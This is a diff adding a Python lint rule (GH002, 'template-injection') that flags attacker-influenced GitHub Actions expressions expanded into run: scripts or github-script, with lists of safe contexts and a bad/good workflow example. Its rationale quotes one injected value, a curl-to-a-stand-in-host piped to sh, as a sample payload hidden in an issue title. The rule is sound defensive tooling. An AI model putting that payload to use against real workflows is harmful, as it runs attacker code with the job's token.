@@ -1,0 +1,138 @@
+"""Attacker-controllable expressions expanded into ``run:`` scripts and github-script."""
+
+from lintkit.expressions import context_refs, find_expressions
+from lintkit.model import Example, Problem, rule
+from lintkit.parsers.github_actions import static_env_names, step_scripts, text_offsets
+from lintkit.yamlmodel import YMap, YSeq
+
+#: github.* values the workflow's author or GitHub controls (not the event's sender).
+SAFE_GITHUB = frozenset((
+    "github.repository", "github.repository_owner", "github.repository_id", "github.repository_owner_id",
+    "github.run_id", "github.run_number", "github.run_attempt", "github.sha", "github.workspace",
+    "github.job", "github.event_name", "github.server_url", "github.api_url", "github.graphql_url",
+    "github.action_path", "github.action", "github.workflow", "github.workflow_ref", "github.workflow_sha",
+    "github.token", "github.retention_days", "github.action_repository", "github.action_ref",
+    "github.event.pull_request.number", "github.event.number", "github.event.issue.number",
+    "github.event.pull_request.head.sha", "github.event.pull_request.base.sha", "github.event.after",
+    "github.event.before", "github.event.repository.id", "github.event.repository.full_name",
+    "github.event.repository.name", "github.event.workflow_run.id", "github.event.workflow_run.pull_requests",
+    "github.event.pull_request.merged", "github.event.pull_request.draft", "github.event.pull_request.id",
+    "github.event.release.id", "github.event.installation.id", "github.event.sender.id",
+))  # fmt: skip
+#: Contexts whose values never come from outside.
+SAFE_ROOTS = frozenset(("secrets", "runner", "strategy", "vars", "needs", "jobs"))
+
+
+@rule(
+    id="GH002",
+    name="template-injection",
+    severity="error",
+    summary="Expression an attacker can influence is expanded into a script",
+    rationale=(
+        "`${{ }}` is replaced before the shell (or github-script's JavaScript) sees the "
+        "script, so a value such as an issue title, a branch name or a dispatch input "
+        "becomes code: `\"; curl evil | sh; \"` in a title runs with the job's token. Pass "
+        "the value through `env:` and use the variable (`\"$TITLE\"`) instead."
+    ),
+    tags=("security",),
+    aliases=("zizmor:template-injection", "actionlint:expression", "CKV_GHA_2"),
+    examples=(
+        Example(
+            bad=(
+                "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n"
+                "      - run: echo \"${{ github.event.issue.title }}\"\n"
+            ),
+            good=(
+                "on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n"
+                "      - run: echo \"$TITLE\"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n"
+            ),
+            filename=".github/workflows/greet.yml",
+        ),
+    ),
+)
+def check(workflow, ctx):
+    input_types = _input_types(workflow)
+    for step, holder, key in step_scripts(workflow):
+        text = holder[key]
+        if "${{" not in text:
+            continue
+        offsets = text_offsets(workflow, holder, key)
+        static_env = None
+        matrix = _static_matrix(step.job.node)
+        for expression in find_expressions(text):
+            for ref in context_refs(expression):
+                if ref.root == "env":
+                    if static_env is None:
+                        static_env = static_env_names(workflow, step)
+                    name = ref.path.split(".")[1] if "." in ref.path else ""
+                    if name in static_env:
+                        continue
+                why = _risk(ref, input_types, matrix, workflow.is_action)
+                if why is None or (ref.root == "env" and why is None):
+                    continue
+                yield Problem(offsets.span(ref.start, ref.end), f"`{ref.path}` {why} and is expanded into `{key}:`; pass it through env: instead")
+
+
+def _risk(ref, input_types, matrix, is_action) -> str | None:
+    root = ref.root
+    if root in SAFE_ROOTS:
+        return None
+    if root == "github":
+        if ref.path in SAFE_GITHUB or ref.path.endswith((".id", ".number")):
+            return None
+        return "can be set by whoever triggers the workflow"
+    if root == "inputs":
+        name = ref.path.split(".")[1] if "." in ref.path else ""
+        if input_types.get(name) in ("boolean", "number", "choice", "environment"):
+            return None
+        return "is a free-text input"
+    if root == "matrix":
+        name = ref.path.split(".")[1] if "." in ref.path else ""
+        if name in matrix:
+            return None
+        return "comes from a matrix that is not a list of constants"
+    if root == "env":
+        return "is an environment variable not set to a constant in this workflow"
+    if root == "steps":
+        return "is a step output, which may carry outside data"
+    if root == "job":
+        return None if ref.path != "job.status" else "is the job status"
+    return None
+
+
+def _input_types(workflow) -> dict[str, str]:
+    types: dict[str, str] = {}
+    sources = []
+    if workflow.is_action:
+        sources.append(workflow.root.get("inputs"))
+    else:
+        for event in ("workflow_dispatch", "workflow_call"):
+            config = workflow.triggers.get(event)
+            if isinstance(config, YMap):
+                sources.append(config.get("inputs"))
+    for inputs in sources:
+        if isinstance(inputs, YMap):
+            for name, spec in inputs.items():
+                kind = spec.get("type") if isinstance(spec, YMap) else None
+                types.setdefault(str(name), kind if isinstance(kind, str) else "string")
+    return types
+
+
+def _static_matrix(job: YMap) -> set[str]:
+    """Matrix axes whose values are all constants written in the workflow."""
+    strategy = job.get("strategy")
+    matrix = strategy.get("matrix") if isinstance(strategy, YMap) else None
+    if not isinstance(matrix, YMap):
+        return set()
+    axes = set()
+    for name, values in matrix.items():
+        if name in ("include", "exclude"):
+            continue
+        if isinstance(values, YSeq) and all(not isinstance(v, str) or "${{" not in v for v in values):
+            axes.add(name)
+    include = matrix.get("include")
+    if isinstance(include, YSeq):
+        for entry in include:
+            if isinstance(entry, YMap):
+                axes.update(k for k, v in entry.items() if not (isinstance(v, str) and "${{" in v))
+    return axes
